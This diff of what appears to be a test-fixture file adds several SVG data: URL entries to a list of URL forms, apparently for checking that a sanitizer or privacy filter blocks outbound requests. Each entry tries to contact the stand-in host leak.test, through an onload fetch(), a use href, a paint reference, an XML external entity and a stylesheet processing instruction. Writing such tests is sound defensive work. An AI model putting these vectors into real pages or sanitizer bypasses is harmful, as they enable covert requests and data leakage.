@@ -69,6 +69,21 @@ export const urlForms = [
     'data-svg-base64': background(
       'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=',
     ),
+    'data-svg-event': background(
+      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(`http://leak.test/@@`)'/>\"",
+    ),
+    'data-svg-use': background(
+      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><use href='http://leak.test/@@#a'/></svg>\"",
+    ),
+    'data-svg-paint': background(
+      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path fill='url(http://leak.test/@@#a)' d='M0 0h9v9z'/></svg>\"",
+    ),
+    'data-svg-entity': background(
+      "\"data:image/svg+xml,<!DOCTYPE svg [<!ENTITY a SYSTEM 'http://leak.test/@@'>]><svg xmlns='http://www.w3.org/2000/svg'>%26a;</svg>\"",
+    ),
+    'data-svg-stylesheet': background(
+      "\"data:image/svg+xml,<?xml-stylesheet href='http://leak.test/@@'?><svg xmlns='http://www.w3.org/2000/svg'/>\"",
+    ),
     'data-html': background('"data:text/html,<img src=http://leak.test/@@>"'),
     about: background('about:blank'),
     empty: background(''),
